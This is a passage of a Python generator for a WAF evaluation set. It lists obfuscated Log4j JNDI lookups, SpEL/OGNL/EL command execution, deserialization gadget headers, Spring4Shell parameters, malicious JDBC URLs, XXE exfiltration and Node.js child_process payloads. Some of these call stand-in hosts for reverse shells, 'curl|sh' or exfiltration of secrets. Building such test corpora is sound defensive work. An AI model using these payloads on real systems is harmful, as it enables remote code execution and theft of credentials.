"""Blind set "twentythird": Java (Log4j lookups and their obfuscations, JNDI, EL/SpEL/OGNL and the other Java
script engines, reflection and class loading, deserialization markers, XStream/Jackson/fastjson/SnakeYAML
gadgets, Struts and Spring binder parameters, JMX/RMI, JDBC URLs, H2, Tomcat manager, XSLT and XXE), the
"generic" families (Node.js code injection, prototype pollution, SSRF, Python, Ruby) and server-side template
injection, with benign requests that share their vocabulary (Java stack traces and log lines, Spring/Log4j/logback
configuration, JSON settings documents, public webhook/image/feed URLs, notification templates, locales and time
zones, developers' code in Slack, links to documentation).

Written independently, in one pass, by a helper session for this repository, from its own general knowledge of
each technique and of real traffic: no WAF rule, ruleset or ruleset regression test, public payload list or other
generator's payload or text list was read, and nothing was changed after the set was measured. Each value payload
goes into three of our input places (query, form, JSON, cookie, header), rotating with `three_places`; payloads
carried by parameter names, raw bytes, raw query strings or raw JSON bodies have three places of their own.
Same record schema as family_gen.py; deterministic (no randomness, no clock).
"""

from __future__ import annotations

import base64
import gzip
import json
import urllib.parse
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose, three_places
from .records import print_records

SET = "twentythird"


# ---------------------------------------------------------------------------------------------------------------
# Payload shapes other than a plain value
# ---------------------------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Pairs:
    """Parameters whose names carry the attack (Struts/Spring data binders, actuator env): sent as query
    parameters, form fields and JSON keys."""
    items: tuple[tuple[str, str], ...]


@dataclass(frozen=True)
class RawBytes:
    """A binary stream (a serialized Java object) percent-encoded byte for byte: query, form and cookie."""
    data: bytes


@dataclass(frozen=True)
class RawQuery:
    """A query string whose keys carry the attack (qs-style nested brackets, dotted paths): two GET query
    strings and one form body."""
    items: tuple[tuple[str, str], ...]
    encode_brackets: bool = False


@dataclass(frozen=True)
class RawJson:
    """A JSON document sent as the whole body (keys carry the attack): POST, PUT and PATCH."""
    body: str


Payload = str | Pairs | RawBytes | RawQuery | RawJson


def _b64(data: bytes | str) -> str:
    return base64.b64encode(data.encode() if isinstance(data, str) else data).decode()


def _gz64(data: bytes) -> str:
    return base64.b64encode(gzip.compress(data, mtime=0)).decode()


def _jser(*classes: str) -> bytes:
    """The head of a Java serialization stream (magic, version, one class descriptor per class), as the
    gadget chains start."""
    out = b"\xac\xed\x00\x05"
    for cls in classes:
        name = cls.encode()
        suid = zlib.crc32(name).to_bytes(4, "big") + zlib.crc32(name[::-1]).to_bytes(4, "big")
        out += b"sr" + len(name).to_bytes(2, "big") + name + suid + b"\x02\x00\x00xp"
    return out


def _classfile(*strings: str) -> bytes:
    """The head of a Java class file (CAFEBABE, Java 8) with some UTF8 constants."""
    out = b"\xca\xfe\xba\xbe\x00\x00\x00\x34\x00" + bytes([len(strings) + 1])
    for s in strings:
        out += b"\x01" + len(s).to_bytes(2, "big") + s.encode()
    return out


def _rsym(name: bytes) -> bytes:
    return b":" + bytes([len(name) + 5]) + name


def _marshal_erb(src: bytes) -> bytes:
    """Ruby Marshal 4.8 of the ActiveSupport DeprecatedInstanceVariableProxy wrapping an ERB."""
    return (b"\x04\x08o" + _rsym(b"ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy") + b"\x07"
            + _rsym(b"@instance") + b"o" + _rsym(b"ERB") + b"\x06" + _rsym(b"@src")
            + b'I"' + bytes([len(src) + 5]) + src + b"\x06:\x06ET"
            + _rsym(b"@method") + _rsym(b"result"))


def _pickle4(module: bytes, func: bytes, arg: bytes) -> bytes:
    frame = (b"\x8c" + bytes([len(module)]) + module + b"\x94\x8c" + bytes([len(func)]) + func + b"\x94\x93\x94"
             + b"\x8c" + bytes([len(arg)]) + arg + b"\x94\x85\x94R\x94.")
    return b"\x80\x04\x95" + len(frame).to_bytes(8, "little") + frame


CC_CHAIN = _jser("sun.reflect.annotation.AnnotationInvocationHandler", "org.apache.commons.collections.map.LazyMap",
                 "org.apache.commons.collections.functors.ChainedTransformer",
                 "org.apache.commons.collections.functors.InvokerTransformer")
CB_CHAIN = _jser("java.util.PriorityQueue", "org.apache.commons.beanutils.BeanComparator",
                 "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl")
URLDNS = _jser("java.util.HashMap", "java.net.URL")
EVIL_CLASS = _b64(_classfile("java/lang/Runtime", "getRuntime", "exec", "()Ljava/lang/Runtime;",
                             "(Ljava/lang/String;)Ljava/lang/Process;", "touch /tmp/pwned",
                             "com/sun/org/apache/xalan/internal/xsltc/runtime/AbstractTranslet"))
BCEL = ("$$BCEL$$$l$8b$I$A$A$A$A$A$A$AmQ$cbN$c2$40$U$3d$D$85$b6$U$f1$fdF$a3$fe$80$8b$sn$3a$ba$d1"
        "$b8$c1$c4$84$b8$k$f0$b6$o$eb$89$d9$a2$f8$k$ad$K$7f$e2$da$8d$3f$e0$87$Z$ef$bc$o$V$8c$8b$99$3b$e7$9e"
        "s$ee$b9$b7$f3$f1$f5$fa$G$a0$84$bc$89$cd$Y$b6b$d8$d6$e1$e8$d8$d1$b0$cb$90$3f$94$be$U$f6$Z$d2$d5$d2")


# ---------------------------------------------------------------------------------------------------------------
# Java
# ---------------------------------------------------------------------------------------------------------------

LOG4J: list[Payload] = [
    "${jndi:ldap://203.0.113.45:1389/Exploit}",
    "${jndi:ldaps://x7k2q.oast.example.net/a}",
    "${jndi:rmi://198.51.100.7:1099/Object}",
    "${jndi:dns://198.51.100.7/probe}",
    "${jndi:iiop://198.51.100.7:1050/Exploit}",
    "${jndi:corba://198.51.100.7:1050/x}",
    "${jndi:nis://198.51.100.7/x}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://198.51.100.7:1389/a}",
    "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://198.51.100.7/b}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.7:1099/poc}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.7/c}",
    "${jndi:ldap://${env:USER}.${env:HOSTNAME}.exfil.example.net/a}",
    "${jndi:ldap://${sys:java.version}.${sys:os.name}.v.example.net/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://198.51.100.7/e}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://198.51.100.7/f}",
    "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://198.51.100.7/g}",
    "${${lower:${lower:jndi}}:${lower:rmi}://198.51.100.7/h}",
    "${${::-${::-$${::-j}}}}",
    "%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fk%7D",
    "$%7Bjndi:ldap://198.51.100.7/l%7D",
    "${jndi:ldap://127.0.0.1#evil.example.net:1389/m}",
    "${${ctx:apiversion}}",
    "${env:AWS_ACCESS_KEY_ID}:${env:AWS_SECRET_ACCESS_KEY}",
    "${sys:user.home}${sys:file.separator}.ssh",
    "${java:version} ${java:os} ${java:hw}",
    "${hostName}-${log4j:configLocation}",
    "${bundle:application:spring.datasource.password}",
    "${\\u006a\\u006e\\u0064\\u0069:ldap://198.51.100.7/o}",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${jndi:ldap://198.51.100.7/ua}",
    "${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/" + _b64("curl 198.51.100.7/sh|sh") + "}",
    "${${::-j}ndi:dns://${hostName}.dnslog.example.net}",
    "%2524%257Bjndi%253Aldap%253A%252F%252F198.51.100.7%252Ft%257D",
    "${jndi:ldap://[::ffff:c633:6407]:1389/u}",
    "${${upper:${lower:J}}${lower:N}DI:LDAP://198.51.100.7/v}",
]

EL: list[Payload] = [
    "${pageContext.request.getSession().getServletContext().getRealPath('/')}",
    "${applicationScope}",
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "#{request.getClass().getClassLoader()}",
    "${facesContext.externalContext.sessionMap}",
    '${"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js")'
    '.eval("java.lang.Runtime.getRuntime().exec(\'id\')")}',
    "${header['host']}${cookie['JSESSIONID'].value}",
    "#{session.setAttribute('role','admin')}",
    "${pageContext.servletContext.classLoader.resources.context.manager.pathname}",
    "${empty param.x ? ''.getClass().forName('java.lang.System').getenv() : 0}",
    "${pageContext.request.getParameter('c').getClass().forName('java.lang.ProcessBuilder')}",
]

SPEL: list[Payload] = [
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwn')}",
    "${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character)"
    ".toString(105).concat(T(java.lang.Character).toString(100))).getInputStream())}",
    "new java.lang.ProcessBuilder({'bash','-c','id'}).start()",
    "T(java.lang.Class).forName('java.lang.Run'+'time').getMethod('exec',T(String)).invoke("
    "T(java.lang.Class).forName('java.lang.Run'+'time').getMethod('getRuntime').invoke(null),'id')",
    "#this.getClass().forName('java.lang.Runtime').getRuntime().exec('id')",
    "T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id')"
    ".getInputStream(),T(java.nio.charset.Charset).defaultCharset())",
    '{"id":"pwn","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String('
    'T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec('
    'new String[]{\\"id\\"}).getInputStream()))}"}}],"uri":"http://example.com"}',
    "T (java.lang.Runtime).getRuntime().exec('id')",
    "#{''.class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "#{@environment.getProperty('spring.datasource.password')}",
    "T(java.nio.file.Files).readAllLines(T(java.nio.file.Paths).get('/etc/passwd'))",
    "#{new javax.script.ScriptEngineManager().getEngineByName('nashorn').eval('java.lang.Runtime.getRuntime()"
    ".exec(\"id\")')}",
]

OGNL: list[Payload] = [
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
    "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
    "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
    "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
    "(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd}))."
    "(#p.redirectErrorStream(true)).(#process=#p.start()).(@org.apache.commons.io.IOUtils@toString("
    "#process.getInputStream()))}",
    "${@java.lang.Runtime@getRuntime().exec('id')}",
    '%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{"whoami"})).redirectErrorStream(true).start()}',
    '(#context["xwork.MethodAccessor.denyMethodExecution"]=false)(#_memberAccess["allowStaticMethodAccess"]=true)'
    '(@java.lang.Runtime@getRuntime().exec("id"))',
    "redirect:${#req=#context.get('co'+'m.opensymphony.xwork2.dispatcher.HttpServletRequest'),"
    "#a=#req.getSession(),#b=#a.getServletContext(),#c=#b.getRealPath('/'),"
    "#matt=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse'),#matt.getWriter().println(#c),"
    "#matt.getWriter().flush(),#matt.getWriter().close()}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true)(#context['xwork.MethodAccessor.denyMethodExecution']=false)"
    "(@java.lang.System@getProperty('user.name'))}",
    '${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),'
    '"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}',
    "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Check',233*233)}",
    "%{(#instancemanager=#application['org.apache.tomcat.InstanceManager'])."
    "(#stack=#attr['com.opensymphony.xwork2.util.ValueStack.ValueStack'])."
    "(#bean=#instancemanager.newInstance('org.apache.commons.collections.BeanMap')).(#bean.setBean(#stack))."
    "(#context=#bean.get('context')).(#bean.setBean(#context)).(#macc=#bean.get('memberAccess'))."
    "(#bean.setBean(#macc)).(#emptyset=#instancemanager.newInstance('java.util.HashSet'))."
    "(#bean.put('excludedClasses',#emptyset)).(#bean.put('excludedPackageNames',#emptyset))."
    "(#arglist=#instancemanager.newInstance('java.util.ArrayList')).(#arglist.add('id'))."
    "(#execute=#instancemanager.newInstance('freemarker.template.utility.Execute')).(#execute.exec(#arglist))}",
    "\\u0027+#{\"\"[\"class\"].forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"id\")}+\\u0027",
    "('\\u0023_memberAccess[\\'allowStaticMethodAccess\\']')(meh)=true&(aaa)(('\\u0023context[\\'xwork.Method"
    "Accessor.denyMethodExecution\\']\\u003d\\u0023foo')(\\u0023foo\\u003dnew java.lang.Boolean(false)))",
    "method:#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,#res=@org.apache.struts2.ServletActionContext"
    "@getResponse(),#w=#res.getWriter(),#w.print(233*233),#w.close(),1?#xx:#request.toString",
    "${#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,@java.lang.Runtime@getRuntime().exec('id')}",
    Pairs((("debug", "command"), ("expression", "#context['xwork.MethodAccessor.denyMethodExecution']=false,"
           "#f=#_memberAccess.getClass().getDeclaredField('allowStaticMethodAccess'),#f.setAccessible(true),"
           "#f.set(#_memberAccess,true),@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime()"
           ".exec('id').getInputStream())"))),
]

SCRIPT: list[Payload] = [
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    "def x() { Runtime.getRuntime().exec('id'); }; x();",
    "'id'.execute().text",
    '["bash","-c","curl -s 198.51.100.7/x|bash"].execute().waitFor()',
    "@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec('id')})\ndef x",
    "this.class.classLoader.parseClass('class X{static{\"id\".execute()}}').newInstance()",
    "new groovy.lang.GroovyShell().evaluate('\"id\".execute().text')",
    "@Grab(group='com.example', module='payload', version='1.0')\nimport Exploit",
    'println "uname -a".execute().text',
    "new('java.lang.ProcessBuilder', 'id').start()",
    "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('touch /tmp/x')}",
    'exec("id");',
    'import java.io.*; Runtime.getRuntime().exec(new String[]{"sh","-c","id"});',
    "var pb = new java.lang.ProcessBuilder('id'); pb.start();",
    "Java.type('java.lang.Runtime').getRuntime().exec('id')",
    "load('nashorn:mozilla_compat.js'); importPackage(java.lang); Runtime.getRuntime().exec('id')",
    "new javax.script.ScriptEngineManager().getEngineByName('nashorn').eval('Java.type(\"java.lang.System\")"
    ".exit(0)')",
    "this.engine.factory.scriptEngine.eval('java.lang.Runtime.getRuntime().exec(\"id\")')",
    "jdk.jshell.JShell.create().eval('Runtime.getRuntime().exec(\"id\")')",
    Pairs((("bsh.script", 'exec("whoami");'), ("bsh.servlet.output", "raw"))),
]

REFLECTION: list[Payload] = [
    'Class.forName("java.lang.Runtime").getMethod("exec", String.class).invoke(Class.forName("java.lang.Runtime")'
    '.getMethod("getRuntime").invoke(null), "id")',
    'java.lang.Runtime.getRuntime().exec(new String[]{"/bin/bash","-c","bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"})',
    'new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL("http://198.51.100.7/x.jar")})'
    '.loadClass("Exploit").newInstance()',
    'java.lang.reflect.Field f = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe"); '
    'f.setAccessible(true);',
    'Thread.currentThread().getContextClassLoader().loadClass("com.sun.org.apache.xalan.internal.xsltc.trax.'
    'TemplatesImpl").newInstance()',
    'ClassLoader.getSystemClassLoader().loadClass("javax.naming.InitialContext").getMethod("lookup", String.class)'
    '.invoke(ctx, "ldap://198.51.100.7/x")',
    'new javax.naming.InitialContext().lookup("ldap://198.51.100.7:1389/Exploit")',
    'java.lang.invoke.MethodHandles.lookup().findVirtual(Runtime.class, "exec", java.lang.invoke.MethodType'
    '.methodType(Process.class, String.class)).invoke(Runtime.getRuntime(), "id")',
    'new sun.misc.BASE64Decoder().decodeBuffer("' + EVIL_CLASS + '")',
    EVIL_CLASS,
    BCEL,
    'System.setSecurityManager(null); Runtime.getRuntime().exec("id")',
    'new java.util.Scanner(new java.io.File("/etc/passwd")).useDelimiter("\\\\Z").next()',
]

DESER: list[Payload] = [
    _b64(CB_CHAIN),
    _b64(CC_CHAIN),
    URLDNS.hex(),
    _jser("javax.management.BadAttributeValueExpException",
          "org.apache.commons.collections.keyvalue.TiedMapEntry").hex().upper(),
    _gz64(_jser("java.util.HashSet", "org.apache.commons.collections4.keyvalue.TiedMapEntry",
                "org.apache.commons.collections4.functors.InstantiateTransformer")),
    _gz64(_jser("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider",
                "org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler")),
    _gz64(_jser("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl")),
    RawBytes(_jser("java.util.HashSet", "org.apache.commons.collections.keyvalue.TiedMapEntry")),
    RawBytes(_jser("java.rmi.server.RemoteObjectInvocationHandler", "sun.rmi.server.UnicastRef")),
    RawBytes(_jser("org.hibernate.engine.spi.TypedValue", "org.hibernate.tuple.component.PojoComponentTuplizer")),
    RawBytes(CC_CHAIN),
    "data:application/x-java-serialized-object;base64," + _b64(URLDNS),
    base64.encodebytes(_jser("java.util.PriorityQueue", "org.apache.commons.collections4.comparators."
                             "TransformingComparator", "org.apache.commons.collections4.functors."
                             "InvokerTransformer")).decode(),
    "".join(f"\\x{b:02x}" for b in _jser("org.apache.commons.collections.functors.InvokerTransformer")),
    Pairs((("javax.faces.ViewState", _gz64(_jser("org.apache.myfaces.view.facelets.el."
                                                 "ValueExpressionMethodExpression", "javax.el.ValueExpression"))),)),
]

GADGET: list[Payload] = [
    '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler">'
    '<target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start'
    '</action></handler></dynamic-proxy></sorted-set>',
    '<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.'
    'bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.'
    'xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream"></is></dataSource></dataHandler>'
    '</value></jdk.nashorn.internal.objects.NativeString></entry></map>',
    '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array '
    'class="java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void><void index="1"><string>'
    '-c</string></void><void index="2"><string>id</string></void></array><void method="start"/></object></java>',
    '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
    '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><void class="java.lang.'
    'ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array>'
    '<void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>',
    '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://198.51.100.7:1389/Exploit","autoCommit":true}]',
    '["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"rmi://198.51.100.7:1099/Exploit"}]',
    '["org.springframework.context.support.ClassPathXmlApplicationContext","http://198.51.100.7/spel.xml"]',
    '{"@class":"org.apache.xbean.propertyeditor.JndiConverter","asText":"ldap://198.51.100.7:1389/obj"}',
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://198.51.100.7:1099/Exploit","autoCommit":true}',
    '{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.'
    'JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.7:1389/Exploit","autoCommit":true}}',
    '{"@type":"[com.sun.rowset.JdbcRowSetImpl"[{,"dataSourceName":"ldap://198.51.100.7:1389/b","autoCommit":true}',
    '{"\\u0040\\u0074\\u0079\\u0070\\u0065":"\\x63om.sun.rowset.JdbcRowSetImpl","dataSourceName":'
    '"ldap://198.51.100.7:1389/c","autoCommit":true}',
    '{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["' + EVIL_CLASS + '"],'
    '"_name":"a.b","_tfactory":{},"_outputProperties":{}}',
    '{"@type":"java.net.Inet4Address","val":"fj.dnslog.example.net"}',
    '{"@type":"java.lang.AutoCloseable","@type":"org.eclipse.core.internal.localstore.SafeFileOutputStream",'
    '"targetPath":"/var/www/html/x.jsp","tempPath":"/etc/passwd"}',
    '{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":"com.sun.org.apache.'
    'bcel.internal.util.ClassLoader"},"driverClassName":"' + BCEL + '"}',
    '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL '
    '["http://198.51.100.7/yaml-payload.jar"]]]]',
    '!<tag:yaml.org,2002:javax.script.ScriptEngineManager> [!<tag:yaml.org,2002:java.net.URLClassLoader> '
    '[[!<tag:yaml.org,2002:java.net.URL> ["http://198.51.100.7/y.jar"]]]]',
    '%TAG ! tag:yaml.org,2002:\n---\n!javax.script.ScriptEngineManager [!java.net.URLClassLoader '
    '[[!java.net.URL ["http://198.51.100.7/z.jar"]]]]',
    '<beans xmlns="http://www.springframework.org/schema/beans"><bean id="pb" class="java.lang.ProcessBuilder" '
    'init-method="start"><constructor-arg><list><value>bash</value><value>-c</value><value>id</value></list>'
    '</constructor-arg></bean></beans>',
]

STRUTS_SPRING: list[Payload] = [
    Pairs((("class.module.classLoader.resources.context.parent.pipeline.first.pattern",
            '%{c2}i if("j".equals(request.getParameter("pwd"))){ java.io.InputStream in = %{c1}i.getRuntime()'
            '.exec(request.getParameter("cmd")).getInputStream(); } %{suffix}i'),
           ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"))),
    Pairs((("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
           ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
           ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", ""))),
    Pairs((("class.classLoader.URLs[0]", "http://198.51.100.7/spring-exploit.jar"),)),
    Pairs((("class['classLoader'].resources.dirContext.docBase", "\\\\198.51.100.7\\share"),)),
    Pairs((("redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false,#f=#_memberAccess.getClass()"
            ".getDeclaredField('allowStaticMethodAccess'),#f.setAccessible(true),#f.set(#_memberAccess,true),"
            "@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream())}",
            ""),)),
    Pairs((("spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')"),)),
    Pairs((("spring.datasource.url", "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://198.51.100.7/x.sql'"),)),
    Pairs((("eureka.client.serviceUrl.defaultZone", "http://198.51.100.7/xstream"),)),
    Pairs((("logging.config", "http://198.51.100.7/logback.xml"),)),
    Pairs((("spring.main.sources", "http://198.51.100.7/payload.groovy"),)),
    Pairs((("top.foo['class'].classLoader.parent", "x"), ("user.class.module.classLoader.DefaultAssertionStatus",
                                                            "true"))),
]

JMX_JDBC: list[Payload] = [
    "service:jmx:rmi:///jndi/rmi://198.51.100.7:1099/jmxrmi",
    '{"type":"EXEC","mbean":"ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator",'
    '"operation":"reloadByURL","arguments":["http://198.51.100.7/logback.xml"]}',
    '<MLET CODE="Payload" ARCHIVE="payload.jar" NAME="DefaultDomain:type=payload" CODEBASE="http://198.51.100.7/">'
    '</MLET>',
    '{"name":"spring.datasource.hikari.connection-test-query","value":"CREATE ALIAS EXEC AS \'String shellexec('
    'String cmd) throws java.io.IOException { java.util.Scanner s = new java.util.Scanner(Runtime.getRuntime()'
    '.exec(cmd).getInputStream()); if (s.hasNextLine()) {return s.next();} return null;}\'; CALL EXEC(\'id\');"}',
    "jdbc:h2:mem:test;MODE=MSSQLServer;INIT=RUNSCRIPT FROM 'http://198.51.100.7/poc.sql'",
    "jdbc:mysql://198.51.100.7:3306/test?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors."
    "ServerStatusDiffInterceptor&user=yso_CC5_id",
    "jdbc:postgresql://localhost/test?socketFactory=org.springframework.context.support."
    "ClassPathXmlApplicationContext&socketFactoryArg=http://198.51.100.7/bean.xml",
    'jdbc:postgresql://localhost/x?loggerLevel=DEBUG&loggerFile=webapps/ROOT/log.jsp&'
    '<%Runtime.getRuntime().exec(request.getParameter("c"))%>',
    "jdbc:db2://198.51.100.7:50000/BLUDB:clientRerouteServerListJNDIName=ldap://198.51.100.7:1389/x;",
    "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=CREATE TRIGGER x BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS "
    "$$//javascript\njava.lang.Runtime.getRuntime().exec('id')$$",
    "jdbc:h2:file:/tmp/x;IFEXISTS=FALSE;INIT=CREATE ALIAS SHELL AS 'void s(String c) throws Exception"
    "{Runtime.getRuntime().exec(c);}'\\;CALL SHELL('id')",
    "http://127.0.0.1:8080/manager/text/deploy?path=/cmd&war=http://198.51.100.7/cmd.war",
    "/static/..;/manager/html",
    "/h2-console/login.do?jsessionid=3f2a9c&language=en&setting=Generic+H2+(Embedded)&driver=org.h2.Driver&"
    "url=jdbc:h2:mem:&user=sa&password=",
]

XML: list[Payload] = [
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.'
    'org/xalan/java/java.lang.Runtime"><xsl:template match="/"><xsl:variable name="rtobject" select="rt:getRuntime()"'
    '/><xsl:value-of select="rt:exec($rtobject,\'id\')"/></xsl:template></xsl:stylesheet>',
    '<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:Runtime="java:java.lang.'
    'Runtime"><xsl:template match="/"><xsl:value-of select="Runtime:exec(Runtime:getRuntime(),\'id\')"/>'
    '</xsl:template></xsl:stylesheet>',
    '<xsl:value-of select="document(\'file:///etc/passwd\')"/>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    '<!DOCTYPE d [<!ENTITY x SYSTEM "jar:http://198.51.100.7/x.zip!/x.dtd">]><d>&x;</d>',
    '<!DOCTYPE d [<!ENTITY x SYSTEM "netdoc:///etc/hosts">]><d>&x;</d>',
    '<!DOCTYPE x [<!ENTITY % d SYSTEM "http://198.51.100.7/evil.dtd"> %d;]><x/>',
    '<!DOCTYPE x [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM '
    '\'ftp://198.51.100.7:2121/%file;\'>">%eval;%exfil;]><x/>',
    '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></x>',
    '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///proc/self/environ">]><svg '
    'xmlns="http://www.w3.org/2000/svg"><text x="0" y="16">&h;</text></svg>',
    '<!DOCTYPE message [<!ENTITY % local_dtd SYSTEM "jar:file:///usr/share/java/tomcat-util.jar!/META-INF/x.dtd">'
    '<!ENTITY % condition \'aaa)><!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\'>%local_dtd;]><message/>',
]

JAVA: dict[str, list[Payload]] = {
    "log4j": LOG4J, "el": EL, "spel": SPEL, "ognl": OGNL, "script-engine": SCRIPT, "reflection": REFLECTION,
    "deserialization": DESER, "gadget": GADGET, "struts-spring": STRUTS_SPRING, "jmx-jdbc-tomcat": JMX_JDBC,
    "xslt-xxe": XML,
}


# ---------------------------------------------------------------------------------------------------------------
# Generic: Node.js, prototype pollution, SSRF, Python, Ruby
# ---------------------------------------------------------------------------------------------------------------

NODE_SHELL_B64 = _b64('require("child_process").execSync("id")')

NODEJS: list[Payload] = [
    "require('child_process').exec('id')",
    'require("child_process").execSync("cat /etc/passwd").toString()',
    "global.process.mainModule.require('child_process').execSync('id')",
    "process.mainModule.constructor._load('child_process').exec('uname -a')",
    'module.constructor._load("child_process").spawnSync("sh",["-c","id"]).stdout.toString()',
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',readable:1,"
    "writable:0},{type:'pipe',readable:0,writable:1}]})",
    "require('child_process').spawn('/bin/sh',['-c','nc 198.51.100.7 4444 -e /bin/sh'])",
    "require('child_process').execFile('/usr/bin/id',function(e,o){console.log(o)})",
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "(function(){return this})().process.mainModule.require('child_process').execSync('whoami')",
    'new Function("return process.env")()',
    "Function('return require')()('fs').readFileSync('/etc/passwd','utf8')",
    "setTimeout(\"require('child_process').exec('id')\", 0)",
    "setInterval('process.exit(1)', 10)",
    "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,"
    "39,41,46,101,120,101,99,40,39,105,100,39,41))",
    "eval(Buffer.from('" + NODE_SHELL_B64 + "','base64').toString())",
